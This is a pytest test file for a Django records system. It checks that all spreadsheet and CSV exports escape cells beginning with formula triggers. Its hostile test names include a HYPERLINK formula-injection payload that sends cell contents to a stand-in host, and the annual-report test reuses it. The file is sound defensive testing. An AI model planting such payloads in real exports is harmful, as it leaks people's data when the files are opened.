"""Exports cannot carry formulas (issue 16 item 3).

Every .xlsx/.csv is written by `jxjy.core.spreadsheets`, which writes text starting with `=`, `+`,
`-`, `@`, a tab or a CR as text with a leading `'`. People with such names are created through the
services and every export is read back cell by cell. Exports covered here: the people standings
export, the verification roster, the roster-import error file, the import template, the annual
report .xlsx and the sampling checklist; the class roster is covered in
`jxjy/training/tests/test_roster_disclosure.py`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from jxjy.core.spreadsheets import FORMULA_TRIGGERS, formula_safe, write_csv, write_xlsx
from jxjy.core.testing import World
from jxjy.people.identity import make_identity_number
from jxjy.people.models import RosterImport
from jxjy.people.services.professionals import professional_create
from jxjy.people.services.roster_import import roster_import_upload
from jxjy.records.services import verification_batch_create
from jxjy.stats.models import Sample
from jxjy.stats.scope import scope_for
from jxjy.stats.services.reports import annual_report_request

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?d="&B2,"点击查看")',
    "+86-591-1234",
    "-1+2",
    "@SUM(A1:A9)",
]


def unsafe_cells(data: bytes) -> list[tuple[str, str, Any]]:
    """Every cell of the workbook that is a formula or a string a spreadsheet would run as one."""
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)):
                    found.append((sheet.title, cell.coordinate, cell.value))
    return found


def all_strings(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {c.value for s in book.worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


# --- the writer ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", '=HYPERLINK("http://x","y")'])
def test_text_starting_with_a_formula_trigger_is_written_as_text_with_a_leading_quote(text):
    assert formula_safe(text) == "'" + text
    data = write_xlsx([("表", ["内容"], [[text]])])
    assert unsafe_cells(data) == []
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and cell.value.startswith("'")  # (the file format stores CR as LF)


def test_numbers_stay_numbers_even_negative_ones_and_plain_text_is_unchanged():
    data = write_xlsx([("表", ["数", "小数", "文本", "日期"], [[-12, -0.5, "郑老师", dt.date(2026, 1, 2)]])])
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.value for c in sheet[2]][:3] == [-12, -0.5, "郑老师"] and sheet["A2"].data_type == "n"
    assert formula_safe(-3) == -3 and formula_safe(None) is None and formula_safe("a=b") == "a=b"


def test_the_csv_writer_neutralises_the_same_cells():
    text = write_csv(["姓名", "差额"], [["=1+1", -3], ["@x", None]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["姓名", "差额"], ["'=1+1", "-3"], ["'@x", ""]]


def test_no_module_but_core_spreadsheets_writes_spreadsheets():
    """One writer: any other module importing openpyxl or csv.writer would bypass the protection."""
    root = Path(__file__).resolve().parents[2]
    writer = root / "core" / "spreadsheets.py"
    offenders = []
    for path in root.rglob("*.py"):
        if path == writer or "tests" in path.parts or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"^\s*(from|import) openpyxl", source, re.MULTILINE) or "csv.writer" in source \
                or "csv.DictWriter" in source:
            offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- every export, with hostile names in the data ----------------------------------------------------------
@pytest.fixture
def hostile(world: World) -> list[Any]:
    """People with formula-like names, registered through the service by the 鼓楼 bureau."""
    people = []
    for n, name in enumerate(HOSTILE_NAMES):
        number = make_identity_number(world.gulou.code, dt.date(1980, 1, 1 + n), 700 + n, "M")
        people.append(professional_create(actor=world.users["hr_gulou"], name=name, id_number=number,
                                          unit=world.gl_hospital, series="health"))
    return people


def _assert_safe_and_carrying_the_names(data: bytes, names: list[str]) -> None:
    assert unsafe_cells(data) == []
    strings = " ".join(all_strings(data))
    for name in names:
        assert "'" + name in strings, name


def test_the_people_export_carries_no_formula(hostile, client_for):
    data = client_for("hr_gulou").get("/people/export.xlsx").content
    _assert_safe_and_carrying_the_names(data, HOSTILE_NAMES)


def test_the_verification_roster_carries_no_formula(world: World, hostile, client_for):
    batch = verification_batch_create(actor=world.users["unit_gl_hospital"], year=2025)
    data = client_for("unit_gl_hospital").get(f"/records/verification/{batch.pk}/roster.xlsx").content
    _assert_safe_and_carrying_the_names(data, HOSTILE_NAMES)


def test_the_roster_import_error_file_carries_no_formula(world: World, client_for):
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["姓名", "身份证号码", "所在单位", "系列"])
    for name in HOSTILE_NAMES:
        row = sheet.max_row + 1
        for column, value in enumerate(["测试", name, world.gl_hospital.name, "卫生"], start=1):
            cell = sheet.cell(row=row, column=column)
            cell.value, cell.data_type = value, "s"  # the bad id number written comes back in the error file
    buffer = io.BytesIO()
    book.save(buffer)
    record = roster_import_upload(actor=world.users["unit_gl_hospital"], filename="花名册.xlsx", data=buffer.getvalue())
    record = RosterImport.objects.get(pk=record.pk)
    assert record.errors
    data = client_for("unit_gl_hospital").get(reverse("people:import_errors", args=[record.pk])).content
    _assert_safe_and_carrying_the_names(data, HOSTILE_NAMES)


def test_the_import_template_carries_no_formula(client_for):
    assert unsafe_cells(client_for("unit_gl_hospital").get("/people/import/template.xlsx").content) == []


def test_the_annual_report_carries_no_formula(world: World, client_for):
    from jxjy.stats.tests import data as stats_data

    world.fz_provider.name = '=HYPERLINK("http://x/?d="&A1,"施教机构")'
    world.fz_provider.save(update_fields=["name"])
    stats_data.build(world)
    actor = world.users["hr_province"]
    report = annual_report_request(actor=actor, scope=scope_for(actor), year=2025)
    data = client_for("hr_province").get(reverse("stats:report_xlsx", args=[report.pk])).content
    _assert_safe_and_carrying_the_names(data, [world.fz_provider.name])


def test_the_sampling_checklist_carries_no_formula(world: World, hostile, client_for):
    client = client_for("hr_gulou")
    client.post(reverse("stats:sample_list"), {"kind": "person", "year": 2025, "size": 50, "seed": 7})
    sample = Sample.objects.get()
    data = client.get(reverse("stats:sample_checklist", args=[sample.pk])).content
    assert unsafe_cells(data) == []
    drawn = [n for n in HOSTILE_NAMES if sample.items.filter(professional__name=n).exists()]
    assert drawn and all(any(s.startswith("'" + n) for s in all_strings(data)) for n in drawn)
